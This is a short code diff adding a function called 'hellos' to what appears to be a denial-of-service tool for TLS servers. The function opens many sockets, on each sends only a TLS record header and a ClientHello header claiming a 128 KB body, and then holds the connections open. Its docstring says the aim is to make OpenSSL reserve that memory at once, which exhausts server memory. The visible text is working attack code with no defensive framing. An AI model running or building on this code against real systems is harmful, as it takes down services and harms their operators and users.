@@ -131,6 +131,15 @@ def handshakes(target):
     stay(socks)
 
 
+def hellos(target):
+    """TLS handshakes of which only the head comes. It announces as much as OpenSSL takes, which makes room for that at once."""
+    target.count *= 5
+    socks = target.crowd()
+    for sock in socks:
+        offer(sock, b"\x16\x03\x01\x00\x04" + b"\x01" + struct.pack(">I", 128 << 10)[1:])
+    stay(socks)
+
+
 def handshake_storm(target):
     """TLS handshakes, one after the other, each made whole."""
     context = ssl.create_default_context()
